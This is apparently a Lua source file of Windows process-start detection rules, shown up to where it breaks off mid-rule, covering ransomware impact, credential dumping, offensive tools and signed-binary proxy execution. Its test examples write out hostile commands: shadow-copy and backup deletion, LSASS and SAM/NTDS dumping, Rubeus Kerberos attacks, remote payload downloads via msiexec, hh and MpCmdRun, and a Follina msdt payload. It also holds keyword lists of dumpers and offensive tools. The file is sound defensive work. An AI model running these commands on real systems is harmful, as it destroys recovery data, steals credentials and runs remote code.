-- Windows process starts: impact and credential theft, offensive tools by
-- name and arguments, signed-binary proxy execution, and obfuscation.
local rules = require "etwlua.rules"
local m = require "etwlua.match"
local enc = require "etwlua.encoding"

local function cl(p) return p.cl end
local function any(s, list)
  for _, n in ipairs(list) do if s:find(n, 1, true) then return n end end
  return nil
end
local F1 = m.finder { "remove-wmiobject", "remove-ciminstance", ".delete()", "rwmi", "rcim" }
local F2 = m.finder { "windefend", "msmpsvc", "sense", "sophos", "mcafee", "symantec", "veeam", "backupexec", "vss", "sql", "mssql", "wbengine", "sdrsvc", "acronis", "eset", "kaspersky", "avp" }
local F3 = m.finder { "sophos", "mcafee", "symantec", "eset", "kaspersky", "defender", "crowdstrike", "carbon", "sentinel", "trend", "malwarebytes", "antivirus", "security" }
local F4 = m.finder { "\\config\\sam", "\\config\\system", "\\config\\security", "ntds.dit" }
local F5 = m.finder { "out-minidump", "minidumpwritedump", "tttracer", "dumpit", "processdump", "-ma " }
local dumper_names = { "nanodump", "pypykatz", "lsassy", "safetykatz", "sharpkatz", "dumpert", "handlekatz", "ppldump", "mirrordump", "mimikatz", "mimidrv", "kekeo", "lazagne", "sharpdpapi", "sharpchrome", "gsecdump", "pwdump", "wce.exe", "quarkspwdump" }
local F6 = m.finder(dumper_names)
local dumper_args = { "sekurlsa::", "lsadump::", "--write c:\\", "nanodump", "pypykatz lsa", "kerberos::golden", "dpapi::", "token::elevate" }
local F7 = m.finder(dumper_args)
local tool_names = { "rubeus", "sharphound", "seatbelt", "winpeas", "sharpup", "certify", "whisker", "kerbrute", "inveigh", "snaffler", "sharpview", "juicypotato", "printspoofer", "roguepotato", "godpotato", "sweetpotato", "badpotato", "sharpwmi", "sharpsc", "sharprdp", "chisel", "bloodhound", "adrecon", "powerup", "sharpgpoabuse", "krbrelay", "sharpersist", "koh.exe", "crackmapexec", "covenant", "grunt", "sharpmove", "sharpexec", "uacme", "akagi", "fubuki", "keefarce", "furutaka", "herpaderp", "spoolfool", "efspotato", "rdpwinst", "winpwnage", "sharprdp" }
local F8 = m.finder(tool_names)
local tool_args = { "asktgt /user:", "asktgs /ticket:", "s4u /impersonateuser:", "kerberoast /", " kerberoast", "asreproast", "ptt /ticket:", "tgtdeleg", "dump /service:krbtgt", "--collectionmethod", "-collectionmethod", "invoke-bloodhound", "-group=all", "find /vulnerable", "request /ca:", "createnetonly /program:", "/ticket:doi", "changepw /ticket:", "golden /aes256:", "diamond /krbkey:", "winpwnage.py" }
local F9 = m.finder(tool_args)
local F10 = m.finder { "trustdmp", "objectcategory=computer", "objectcategory=person", "objectcategory=subnet", "objectcategory=organizationalunit", "dcmodes", "domainlist", "-gcb", "admincount=1", "objectcategory=group", "-sc ", "(objectclass=" }
local F11 = m.finder { "password", "cpassword", "pwd=" }
local F12 = m.finder { "powershell", "mshta", "rundll32", "regsvr32", "http", "certutil", ".exe\"", "calc" }
local F13 = m.finder { "openurl", "fileprotocolhandler", "shellexec_rundll", "launchinfsection", "routethecall", "launchapplication", "installhdinfsection", "registerocx", "pcwutl" }
local F14 = m.finder { "it_browseforfile", "pcwdiagnostic", "it_rebrowseforfile", "/../" }
local F15 = m.finder { "powershell", "mshta", "rundll32", "certutil", "bitsadmin", "regsvr32", "wscript", "cscript", "http" }
local F16 = m.finder { "disableantispyware", "disablerealtimemonitoring", "disablebehaviormonitoring", "disableioavprotection", "disableonaccessprotection", "\\exclusions\\", "disablescanonrealtimeenable", "tamperprotection" }
local F17 = m.finder { "-dis", "-exclusionp", "-exclusione", "-exclusioni", "-mapsreporting 0", "-submitsamplesconsent 2", "-puaprotection 0" }
local amsi_words = { "amsiutils", "amsiinitfailed", "amsiscanbuffer", "amsicontext", "amsi.dll" }
local F18 = m.finder(amsi_words)
local F19 = m.finder { "frombase64string", "downloaddata", "readallbytes", "invoke" }
local S32 = [[C:\Windows\System32\]]
local PS = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]]
local function X(name, command_line, parent, extra)
  local t = { image = name:find("\\", 1, true) and name or S32 .. name, command_line = command_line,
              parent_image = parent }
  for k, v in pairs(extra or {}) do t[k] = v end
  return t
end
local url = "https?://"

-- ---- impact ---------------------------------------------------------------

rules.define {
  id = "win.shadow_copy_delete_powershell", platform = "windows", severity = "high",
  needs = { command_line = { "shadowcopy" } },
  title = "Shadow copies removed through PowerShell WMI/CIM",
  description = "Get-WmiObject/Get-CimInstance Win32_ShadowCopy piped to Remove-WmiObject/Remove-CimInstance "
    .. "deletes restore points without vssadmin.",
  technique = { "T1490" },
  falsepositives = { "Storage cleanup scripts" },
  match = function(p)
    local c = cl(p)
    return c:find("shadowcopy", 1, true) and F1(c)
  end,
  examples = {
    positive = { X(PS, [[powershell -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"]]),
                 X(PS, [[powershell Get-CimInstance Win32_ShadowCopy | Remove-CimInstance]]) },
    negative = { X(PS, [[powershell Get-CimInstance Win32_ShadowCopy]]), X(PS, [[powershell Remove-Item a.txt]]) },
  },
}

rules.define {
  id = "win.backup_catalog_or_usn_destroyed", platform = "windows", severity = "high",
  names = { "wbadmin.exe", "fsutil.exe", "cipher.exe", "diskshadow.exe" },
  title = "Backups, USN journal or free space wiped",
  description = "wbadmin delete backup, fsutil usn deletejournal, cipher /w and diskshadow delete shadows destroy "
    .. "recovery data and traces.",
  technique = { "T1490", "T1070" },
  falsepositives = { "Disk maintenance by administrators" },
  match = function(p)
    local c = cl(p)
    return (p.name == "wbadmin.exe" and c:find("delete", 1, true) and c:find("backup", 1, true))
      or (p.name == "fsutil.exe" and c:find("usn", 1, true) and c:find("deletejournal", 1, true))
      or (p.name == "cipher.exe" and c:find("/w:", 1, true))
      or (p.name == "diskshadow.exe" and c:find("delete", 1, true) and c:find("shadows", 1, true))
  end,
  examples = {
    positive = { X("wbadmin.exe", [[wbadmin delete backup -keepVersions:0 -quiet]]),
                 X("fsutil.exe", [[fsutil usn deletejournal /D C:]]), X("cipher.exe", [[cipher /w:C:\]]) },
    negative = { X("wbadmin.exe", [[wbadmin get versions]]), X("fsutil.exe", [[fsutil usn queryjournal C:]]) },
  },
}

rules.define {
  id = "win.security_services_stopped", platform = "windows", severity = "high",
  names = { "net.exe", "net1.exe", "sc.exe", "taskkill.exe" },
  title = "Security, backup or database services stopped in bulk",
  description = "net stop, sc stop and taskkill aimed at Defender, VSS, backup or SQL services is ransomware "
    .. "preparing to encrypt.",
  technique = { "T1489", "T1562.001" },
  falsepositives = { "Maintenance windows stopping SQL or backup agents" },
  match = function(p)
    local n, c = p.name or "", cl(p)
    local stop = ((n == "net.exe" or n == "net1.exe" or n == "sc.exe") and c:find("stop", 1, true))
      or (n == "taskkill.exe" and c:find("/im", 1, true))
    if not stop then return false end
    local svc = F2(c)
    return svc ~= nil, "stops " .. tostring(svc)
  end,
  examples = {
    positive = { X("net.exe", [[net stop "Sophos Agent" /y]]), X("sc.exe", [[sc stop VSS]]),
                 X("taskkill.exe", [[taskkill /f /im sqlservr.exe]]) },
    negative = { X("net.exe", [[net stop spooler]]), X("taskkill.exe", [[taskkill /im notepad.exe]]) },
  },
}

rules.define {
  id = "win.security_product_uninstalled", platform = "windows", severity = "high",
  needs = { command_line = { "uninstall" } },
  title = "Security product uninstalled through wmic",
  description = "wmic product where name like '%antivirus%' call uninstall removes protection silently.",
  technique = { "T1562.001" },
  falsepositives = { "Software migrations" },
  match = function(p)
    local c = cl(p)
    return c:find("product", 1, true) and c:find("uninstall", 1, true) and
      F3(c)
  end,
  examples = {
    positive = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic product where "name like '%%Sophos%%'" call uninstall /nointeractive]]) },
    negative = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic product get name]]),
                 X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic product where name="7-Zip" call uninstall]]) },
  },
}

rules.define {
  id = "win.icacls_grant_everyone_recursive", platform = "windows", severity = "medium",
  names = { "icacls.exe" },
  title = "Full control granted to Everyone recursively",
  description = "icacls PATH /grant Everyone:F /T is ransomware opening every file before encrypting it.",
  technique = { "T1222.001" },
  falsepositives = { "Misguided admin fixes on shared folders" },
  match = function(p)
    local c = cl(p)
    return c:find("/grant", 1, true) and c:find("/t", 1, true)
      and (c:find("everyone:f", 1, true) or c:find("everyone:%(oi%)%(ci%)f") or c:find("*s-1-1-0:f", 1, true))
  end,
  examples = {
    positive = { X("icacls.exe", [[icacls "C:\*" /grant Everyone:F /T /C /Q]]) },
    negative = { X("icacls.exe", [[icacls C:\data /grant corp\team:M /T]]), X("icacls.exe", [[icacls C:\x]]) },
  },
}

-- ---- credential access ---------------------------------------------------

rules.define {
  id = "win.sensitive_file_from_shadow_copy", platform = "windows", severity = "critical",
  needs = { command_line = { "\\config\\sam", "\\config\\system", "\\config\\security", "ntds.dit" } },
  title = "SAM, SYSTEM, SECURITY or NTDS copied from a shadow copy or with esentutl",
  description = "Copying the hives or ntds.dit out of a HarddiskVolumeShadowCopy, or with esentutl /y /vss, reads "
    .. "files that are locked while Windows runs.",
  technique = { "T1003.002", "T1003.003" },
  falsepositives = { "Backup software" },
  match = function(p)
    local c = cl(p)
    local target = F4(c)
    if not target then return false end
    return (c:find("harddiskvolumeshadowcopy", 1, true) or c:find("esentutl", 1, true) or c:find("/vss", 1, true)
      or c:find("copy-item", 1, true) or c:find("invoke-ninjacopy", 1, true)), "copies " .. target
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\t\sam]]),
                 X("esentutl.exe", [[esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\t\ntds.dit]]) },
    negative = { X("esentutl.exe", [[esentutl /g C:\Windows\SoftwareDistribution\DataStore\DataStore.edb]]),
                 X("cmd.exe", [[cmd /c dir C:\Windows\System32\config]]) },
  },
}

rules.define {
  id = "win.lsass_dump_lolbin", platform = "windows", severity = "critical",
  needs = { command_line = { "fullmemdmp", "0x01100", "lsass" } },
  title = "LSASS memory dumped with a signed diagnostic tool",
  description = "rdrleakdiag /fullmemdmp, SQLDumper, createdump, tttracer or Out-Minidump/MiniDumpWriteDump "
    .. "aimed at a process write LSASS memory to disk.",
  technique = { "T1003.001" },
  falsepositives = { "Support engineers capturing crash dumps of their own services" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    return (n == "rdrleakdiag.exe" and c:find("fullmemdmp", 1, true))
      or (n == "sqldumper.exe" and c:find("0x01100", 1, true))
      or (n == "createdump.exe" and c:find("lsass", 1, true))
      or (c:find("lsass", 1, true) and F5(c))
  end,
  examples = {
    positive = { X("rdrleakdiag.exe", [[rdrleakdiag.exe /p 640 /o C:\t /fullmemdmp /wait 1]]),
                 X(PS, [[powershell -c "Get-Process lsass | Out-Minidump -DumpFilePath C:\t"]]) },
    negative = { X("rdrleakdiag.exe", [[rdrleakdiag.exe /?]]), X(PS, [[powershell Get-Process lsass]]) },
  },
}

rules.define {
  id = "win.credential_dumper_names", platform = "windows", severity = "critical",
  needs = { name = dumper_names, original_file_name = dumper_names, command_line = dumper_args },
  title = "Known credential dumper started",
  description = "nanodump, pypykatz, lsassy, SafetyKatz, Dumpert, HandleKatz, PPLdump, mimikatz and friends by "
    .. "file name, original file name or characteristic arguments.",
  technique = { "T1003.001" },
  falsepositives = { "Red-team exercises" },
  match = function(p)
    local n, o, c = p.name or "", (p.original_file_name or ""):lower(), cl(p)
    local hit = F6(n .. " " .. o)
    if hit then return true, "tool " .. hit end
    hit = F7(c)
    return hit ~= nil, hit and ("arguments " .. hit)
  end,
  examples = {
    positive = { X([[C:\Users\Public\nanodump.x64.exe]], [[nanodump.x64.exe --fork --write C:\Windows\Temp\a.dmp]]),
                 X([[C:\t\svc.exe]], [[svc.exe]], nil, { original_file_name = "mimikatz.exe" }),
                 X([[C:\t\l.exe]], [[l.exe all -oN]], nil, { original_file_name = "lazagne.exe" }) },
    negative = { X("taskmgr.exe", [[taskmgr.exe /7]]), X([[C:\Tools\procexp64.exe]], [[procexp64.exe]]) },
  },
}

rules.define {
  id = "win.offensive_tool_names", platform = "windows", severity = "high",
  needs = { name = tool_names, original_file_name = tool_names },
  title = "Well-known offensive tool started",
  description = "Rubeus, SharpHound, Seatbelt, winPEAS, SharpUp, Certify, Whisker, Kerbrute, Inveigh, Snaffler, "
    .. "potato exploits and similar, by name or original file name.",
  technique = { "T1087", "T1558", "T1068" },
  falsepositives = { "Red-team and audit engagements" },
  match = function(p)
    local s = (p.name or "") .. " " .. (p.original_file_name or ""):lower()
    local hit = F8(s)
    return hit ~= nil, hit and ("tool " .. hit)
  end,
  examples = {
    positive = { X([[C:\Users\a\Rubeus.exe]], [[Rubeus.exe kerberoast /outfile:h.txt]]),
                 X([[C:\t\x.exe]], [[x.exe -c All]], nil, { original_file_name = "SharpHound.exe" }),
                 X([[C:\t\PrintSpoofer64.exe]], [[PrintSpoofer64.exe -i -c cmd]]) },
    negative = { X([[C:\Program Files\App\app.exe]], [[app.exe]]), X("certutil.exe", [[certutil -store my]]) },
  },
}

rules.define {
  id = "win.offensive_tool_arguments", platform = "windows", severity = "high",
  needs = { command_line = tool_args },
  title = "Offensive tool arguments on a renamed binary",
  description = "Argument shapes of Rubeus (asktgt /user:, s4u /impersonateuser:, kerberoast /outfile), "
    .. "SharpHound (--CollectionMethod), Seatbelt (-group=all) and Certify (find /vulnerable) betray the tool "
    .. "whatever its file name.",
  technique = { "T1558", "T1087.002", "T1649" },
  falsepositives = { "Red-team exercises" },
  match = function(p)
    local c = cl(p)
    local hit = F9(c)
    return hit ~= nil, hit and ("arguments " .. hit)
  end,
  examples = {
    positive = { X([[C:\t\r.exe]], [[r.exe asktgt /user:alice /rc4:0123456789abcdef0123456789abcdef /ptt]]),
                 X([[C:\t\s.exe]], [[s.exe --CollectionMethod All --ZipFileName x.zip]]),
                 X([[C:\t\c.exe]], [[c.exe find /vulnerable]]) },
    negative = { X("klist.exe", [[klist tickets]]), X("cmd.exe", [[cmd /c find /i "x" a.txt]]) },
  },
}

rules.define {
  id = "win.adfind_recon", platform = "windows", severity = "high",
  needs = { name = { "adfind.exe" }, original_file_name = { "adfind.exe" }, command_line = { "adfind" } },
  title = "AdFind domain reconnaissance",
  description = "AdFind dumping trusts, computers, users or subnets is a ransomware-operator favourite.",
  technique = { "T1087.002", "T1482", "T1018" },
  falsepositives = { "AD administrators who use AdFind" },
  match = function(p)
    local c = cl(p)
    if not (p.name == "adfind.exe" or (p.original_file_name or ""):lower() == "adfind.exe" or c:find("adfind", 1, true)) then
      return false
    end
    return F10(c)
  end,
  examples = {
    positive = { X([[C:\t\AdFind.exe]], [[adfind.exe -f "(objectcategory=computer)" > ad_computers.txt]]),
                 X([[C:\t\AdFind.exe]], [[adfind.exe -gcb -sc trustdmp]]) },
    negative = { X([[C:\t\AdFind.exe]], [[adfind.exe -h]]), X("nltest.exe", [[nltest /dsgetdc:corp]]) },
  },
}

rules.define {
  id = "win.credential_hunting_cli", platform = "windows", severity = "medium",
  needs = { name = { "reg.exe", "findstr.exe", "vaultcmd.exe", "cmdkey.exe" }, command_line = { "defaultpassword" } },
  title = "Passwords searched in files or the registry",
  description = "reg query /f password /s, findstr /si password, cpassword searches in SYSVOL and cmdkey/vaultcmd "
    .. "listings hunt for stored credentials.",
  technique = { "T1552.001", "T1552.002", "T1555.004" },
  falsepositives = { "Security audits" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    return (n == "reg.exe" and c:find("query", 1, true) and c:find("password", 1, true) and c:find("/f", 1, true))
      or (n == "findstr.exe" and F11(c))
      or (n == "vaultcmd.exe" and c:find("/listcreds", 1, true))
      or (n == "cmdkey.exe" and c:find("/l", 1, true))
      or (c:find("\\winlogon", 1, true) and c:find("defaultpassword", 1, true))
  end,
  examples = {
    positive = { X("reg.exe", [[reg query HKLM /f password /t REG_SZ /s]]),
                 X("findstr.exe", [[findstr /S /I cpassword \\corp.local\sysvol\corp.local\policies\*.xml]]),
                 X("vaultcmd.exe", [[vaultcmd /listcreds:"Windows Credentials" /all]]) },
    negative = { X("reg.exe", [[reg query HKLM\Software\App]]), X("findstr.exe", [[findstr /i error app.log]]) },
  },
}

-- ---- signed-binary proxy execution --------------------------------------

rules.define {
  id = "win.msiexec_remote_package", platform = "windows", severity = "high",
  names = { "msiexec.exe" },
  title = "msiexec installs a package from a URL",
  description = "msiexec /i or /q with an http(s) URL installs and runs remote code with a signed binary.",
  technique = { "T1218.007" },
  falsepositives = { "Software deployment from an internal web server" },
  match = function(p) local c = cl(p) return c:find(url) ~= nil end,
  examples = {
    positive = { X("msiexec.exe", [[msiexec /q /i http://10.0.0.5/a.msi]]) },
    negative = { X("msiexec.exe", [[msiexec /i C:\t\app.msi /qn]]), X("msiexec.exe", [[msiexec /V]]) },
  },
}

rules.define {
  id = "win.odbcconf_regsvr", platform = "windows", severity = "high",
  names = { "odbcconf.exe" },
  title = "odbcconf loads a DLL",
  description = "odbcconf /a {regsvr DLL} or -f file.rsp runs DllRegisterServer of any DLL under a signed binary.",
  technique = { "T1218.008" },
  falsepositives = { "ODBC driver installers" },
  match = function(p)
    local c = cl(p)
    return (c:find("regsvr", 1, true) or c:find("%.rsp"))
  end,
  examples = {
    positive = { X("odbcconf.exe", [[odbcconf /a {regsvr C:\Users\Public\a.dll}]]), X("odbcconf.exe", [[odbcconf -f x.rsp]]) },
    negative = { X("odbcconf.exe", [[odbcconf /a {CONFIGSYSDSN "SQL Server" "DSN=x"}]]), X("odbcconf.exe", [[odbcconf /?]]) },
  },
}

rules.define {
  id = "win.indirect_command_execution", platform = "windows", severity = "medium",
  names = { "forfiles.exe", "pcalua.exe", "conhost.exe", "scriptrunner.exe", "vshadow.exe" },
  title = "Command run through forfiles, pcalua, conhost or scriptrunner",
  description = "forfiles /c, pcalua -a, conhost --headless and scriptrunner -appvscript start programs with a "
    .. "signed parent, breaking parent-based detections.",
  technique = { "T1202" },
  falsepositives = { "forfiles in cleanup scripts (they rarely start cmd with a download or script)" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    return (n == "forfiles.exe" and c:find("/c", 1, true) and F12(c))
      or (n == "pcalua.exe" and c:find("-a", 1, true))
      or (n == "conhost.exe" and c:find("--headless", 1, true))
      or (n == "scriptrunner.exe" and c:find("-appvscript", 1, true))
      or (n == "vshadow.exe" and c:find("-exec=", 1, true))
  end,
  examples = {
    positive = { X("forfiles.exe", [[forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c powershell -ep bypass -f C:\t\a.ps1"]]),
                 X("pcalua.exe", [[pcalua.exe -a C:\Users\Public\a.exe]]),
                 X("conhost.exe", [[conhost.exe --headless cmd /c C:\t\a.bat]]) },
    negative = { X("forfiles.exe", [[forfiles /p C:\logs /s /m *.log /d -30 /c "cmd /c del @path"]]),
                 X("conhost.exe", [[\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1]]) },
  },
}

rules.define {
  id = "win.mavinject_injection", platform = "windows", severity = "high",
  needs = { command_line = { "/injectrunning" } },
  title = "mavinject injects a DLL into a running process",
  description = "mavinject PID /INJECTRUNNING DLL is a signed App-V binary that injects any DLL.",
  technique = { "T1218.013", "T1055.001" },
  falsepositives = { "App-V virtual application launches (they use other arguments)" },
  match = function(p) return cl(p):find("/injectrunning", 1, true) ~= nil end,
  examples = {
    positive = { X("mavinject.exe", [[MavInject.exe 3110 /INJECTRUNNING C:\t\a.dll]]) },
    negative = { X("mavinject.exe", [[mavinject.exe /?]]), X("rundll32.exe", [[rundll32 a.dll,Run]]) },
  },
}

rules.define {
  id = "win.wmic_xsl_script", platform = "windows", severity = "high",
  needs = { command_line = { "/format:" } },
  title = "wmic runs an XSL stylesheet (SquiblyTwo)",
  description = "wmic ... /format:URL or a .xsl outside System32 executes the script inside the stylesheet.",
  technique = { "T1220" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    return (p.name == "wmic.exe" or c:find("wmic", 1, true)) and c:find("/format:", 1, true) and
      (c:find(url) or (c:find("%.xsl") and not c:find("/format:%a+%.xsl%f[%s\"]") or c:find("/format:\"?[%a]:\\")))
  end,
  examples = {
    positive = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic os get /format:"https://x.test/a.xsl"]]),
                 X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic process list /format:"C:\Users\Public\evil.xsl"]]) },
    negative = { X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic process list /format:csv]]),
                 X([[C:\Windows\System32\wbem\WMIC.exe]], [[wmic os get /format:list]]) },
  },
}

rules.define {
  id = "win.rundll32_proxy_exports", platform = "windows", severity = "high",
  names = { "rundll32.exe" },
  title = "rundll32 runs a program through a proxy export",
  description = "url.dll OpenURL/FileProtocolHandler, shell32 ShellExec_RunDLL, advpack/ieadvpack "
    .. "LaunchINFSection, zipfldr RouteTheCall, pcwutl LaunchApplication and setupapi InstallHDInfSection start "
    .. "arbitrary programs.",
  technique = { "T1218.011" },
  falsepositives = { "Old installers using advpack LaunchINFSection with their own INF" },
  match = function(p)
    local c = cl(p)
    local hit = F13(c)
    return hit ~= nil, hit and ("export " .. hit)
  end,
  examples = {
    positive = { X("rundll32.exe", [[rundll32.exe url.dll,FileProtocolHandler C:\Users\Public\a.exe]]),
                 X("rundll32.exe", [[rundll32 shell32.dll,ShellExec_RunDLL "cmd.exe" "/c calc"]]),
                 X("rundll32.exe", [[rundll32.exe advpack.dll,LaunchINFSection C:\t\a.inf,DefaultInstall_SingleUser,1,]]) },
    negative = { X("rundll32.exe", [[rundll32.exe shell32.dll,Control_RunDLL desk.cpl]]),
                 X("rundll32.exe", [[rundll32 printui.dll,PrintUIEntry /il]]) },
  },
}

local writable = m.wildcards { "*\\users\\*", "*\\programdata\\*", "*\\progra~3\\*", "*\\windows\\temp\\*", "*\\appdata\\*",
                               "*\\temp\\*", "*\\perflogs\\*", "\\\\*" }
rules.define {
  id = "win.rundll32_regsvr32_user_dll", platform = "windows", severity = "medium",
  names = { "rundll32.exe", "regsvr32.exe" },
  title = "rundll32 or regsvr32 loads a DLL from a user-writable folder or a share",
  description = "Payload DLLs dropped in Users, ProgramData, Temp or fetched from a UNC path are run with "
    .. "rundll32/regsvr32 to hide behind a signed process.",
  technique = { "T1218.011", "T1218.010" },
  falsepositives = { "Per-user software (Teams, OneDrive) registering its own DLLs under AppData" },
  match = function(p)
    local a = p.args
    for k = 2, #a do
      local v = a[k]:gsub(",.*$", "")
      if not v:find("^[/-]") and writable(v) and not v:lower():find("\\microsoft\\teams\\", 1, true)
        and not v:lower():find("\\onedrive\\", 1, true) then
        return true, "loads " .. v
      end
    end
    return false
  end,
  examples = {
    positive = { X("rundll32.exe", [[rundll32.exe C:\Users\Public\upd.dll,DllMain]]),
                 X("regsvr32.exe", [[regsvr32 /s C:\ProgramData\x.ocx]]),
                 X("rundll32.exe", [[rundll32 \\10.0.0.5\s\a.dll,Start]]) },
    negative = { X("rundll32.exe", [[rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL]]),
                 X("regsvr32.exe", [[regsvr32 /s "C:\Program Files\App\ctl.dll"]]) },
  },
}

rules.define {
  id = "win.lolbin_download_misc", platform = "windows", severity = "high",
  names = { "mpcmdrun.exe", "desktopimgdownldr.exe", "certreq.exe", "expand.exe", "extrac32.exe", "esentutl.exe", "finger.exe", "hh.exe", "cmdl32.exe" },
  title = "Signed binary downloads a file",
  description = "MpCmdRun -DownloadFile, desktopimgdownldr /lockscreenurl, certreq -Post, esentutl from a share, "
    .. "expand/extrac32 from a share, finger and hh with URLs fetch payloads with Microsoft binaries.",
  technique = { "T1105", "T1218" },
  falsepositives = { "None known for these argument shapes" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    return (n == "mpcmdrun.exe" and c:find("-downloadfile", 1, true))
      or (n == "desktopimgdownldr.exe" and c:find("lockscreenurl:http", 1, true))
      or (n == "certreq.exe" and c:find("-post", 1, true) and c:find(url))
      or ((n == "expand.exe" or n == "extrac32.exe" or n == "esentutl.exe") and c:find("\\\\%d+%.%d+%.%d+%.%d+\\"))
      or (n == "finger.exe" and c:find("@", 1, true))
      or (n == "hh.exe" and c:find(url))
      or (n == "cmdl32.exe" and c:find("/lan", 1, true))
  end,
  examples = {
    positive = { X([[C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MpCmdRun.exe]],
                   [[MpCmdRun.exe -DownloadFile -url https://x.test/a.exe -path C:\Users\Public\a.exe]]),
                 X("hh.exe", [[hh.exe http://x.test/payload.chm]]), X("finger.exe", [[finger user@x.test]]) },
    negative = { X([[C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MpCmdRun.exe]],
                   [[MpCmdRun.exe -SignatureUpdate]]), X("hh.exe", [[hh.exe C:\Windows\Help\mmc.chm]]) },
  },
}

rules.define {
  id = "win.msdt_or_wuauclt_proxy", platform = "windows", severity = "high",
  names = { "msdt.exe", "wuauclt.exe" },
  title = "msdt (Follina) or wuauclt loads attacker code",
  description = "msdt with IT_BrowseForFile/PCWDiagnostic and wuauclt /UpdateDeploymentProvider DLL "
    .. "/RunHandlerComServer run code through signed Windows binaries.",
  technique = { "T1218", "T1203" },
  falsepositives = { "None known" },
  match = function(p)
    local c, n = cl(p), p.name or ""
    return (n == "msdt.exe" and F14(c))
      or (n == "wuauclt.exe" and c:find("/updatedeploymentprovider", 1, true) and c:find("/runhandlercomserver", 1, true))
  end,
  examples = {
    positive = { X("msdt.exe", [[msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(calc)i/../../../../x.exe"]]),
                 X("wuauclt.exe", [[wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\a.dll /RunHandlerComServer]]) },
    negative = { X("msdt.exe", [[msdt.exe -id NetworkDiagnosticsWeb]]), X("wuauclt.exe", [[wuauclt.exe /detectnow]]) },
  },
}

rules.define {
  id = "win.msxsl_or_ieexec", platform = "windows", severity = "high",
  names = { "msxsl.exe", "ieexec.exe", "presentationhost.exe" },
  title = "msxsl, IEExec or PresentationHost runs remote or user code",
  description = "msxsl.exe runs script in XSL; IEExec and PresentationHost run .NET code from a URL.",
  technique = { "T1220", "T1218" },
  falsepositives = { "Developers using msxsl for transforms" },
  match = function(p)
    local n, c = p.name or "", cl(p)
    return n == "msxsl.exe" or n == "ieexec.exe" and c:find(url)
      or (n == "presentationhost.exe" and (c:find(url) or c:find("%.xbap")) ~= nil)
  end,
  examples = {
    positive = { X([[C:\Users\Public\msxsl.exe]], [[msxsl.exe a.xml b.xsl]]),
                 X([[C:\Windows\Microsoft.NET\Framework\v2.0.50727\ieexec.exe]], [[ieexec.exe http://x.test/a.exe]]) },
    negative = { X("xcopy.exe", [[xcopy a b]]),
                 X([[C:\Windows\Microsoft.NET\Framework\v2.0.50727\ieexec.exe]], [[ieexec.exe]]) },
  },
}

rules.define {
  id = "win.certutil_root_cert_added", platform = "windows", severity = "medium",
  needs = { command_line = { "addstore", "import-certificate" } },
  title = "Certificate added to the trusted root store",
  description = "certutil -addstore root or Import-Certificate into Cert:\\LocalMachine\\Root lets an attacker "
    .. "intercept TLS or sign code.",
  technique = { "T1553.004" },
  falsepositives = { "Enterprise CA deployment by script" },
  match = function(p)
    local c = cl(p)
    return (c:find("-addstore", 1, true) or c:find("/addstore", 1, true)) and c:find("root", 1, true)
      or (c:find("import-certificate", 1, true) and c:find("\\root", 1, true))
  end,
  examples = {
    positive = { X("certutil.exe", [[certutil -addstore -f root C:\Users\Public\ca.cer]]) },
    negative = { X("certutil.exe", [[certutil -addstore my a.pfx]]), X("certutil.exe", [[certutil -store root]]) },
  },
}

-- ---- blind spots: PowerShell flags, obfuscation, Defender -----------------

local ps = m.set { "powershell.exe", "pwsh.exe", "powershell_ise.exe" }
local function is_ps(p)
  local o = (p.original_file_name or ""):lower()
  return ps[p.name or ""] or o == "powershell.exe" or o == "pwsh.dll"
end

rules.define {
  id = "win.powershell_bypass_noprofile", platform = "windows", severity = "medium",
  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
  title = "PowerShell with execution-policy bypass and no profile, in any abbreviation",
  description = "-ep/-exec/-ex bypass with -nop/-noprofile and -noni or -w hidden, abbreviated and with /, en "
    .. "dash or em dash, is how droppers start PowerShell.",
  technique = { "T1059.001" },
  falsepositives = { "Software deployment tools (SCCM, Intune scripts) use -ExecutionPolicy Bypass -NoProfile" },
  match = function(p)
    if not is_ps(p) then return false end
    local c = " " .. cl(p)
    -- dash lookalikes (UTF-8 E2 80 93..95) as "-"; most lines have none, and long ones are costly to copy
    if c:find("\xE2\x80", 1, true) then c = c:gsub("\u{2013}", "-"):gsub("\u{2014}", "-"):gsub("\u{2015}", "-") end
    -- each test only when the ones before held: the answer is the same, the long lines are scanned less
    local bypass = c:find("%s[-/]ex?e?c?u?t?i?o?n?p?o?l?i?c?y?%s+[\"']?bypass") or c:find("%s[-/]ep%s+[\"']?bypass")
      or c:find("%s[-/]ex?%s+[\"']?un") or c:find("%s[-/]ep%s+[\"']?un")
    if not bypass then return false end
    local nop = c:find("%s[-/]nop%a*") or c:find("%s[-/]nol?o?g?o?%s")
    if not nop then return false end
    local hidden = c:find("%s[-/]w%a*%s+[\"']?h") or c:find("%s[-/]w%a*%s+[\"']?1") or c:find("%s[-/]noni%a*")
    local cmd = hidden or c:find("%s[-/]c%a*%s") or c:find("iex") or c:find("invoke%-expression")
    return (hidden or cmd) and true or false
  end,
  examples = {
    positive = { X(PS, [[powershell.exe -nop -w 1 -ep bypass -c "IEX (gc C:\t\a.ps1 -raw)"]]),
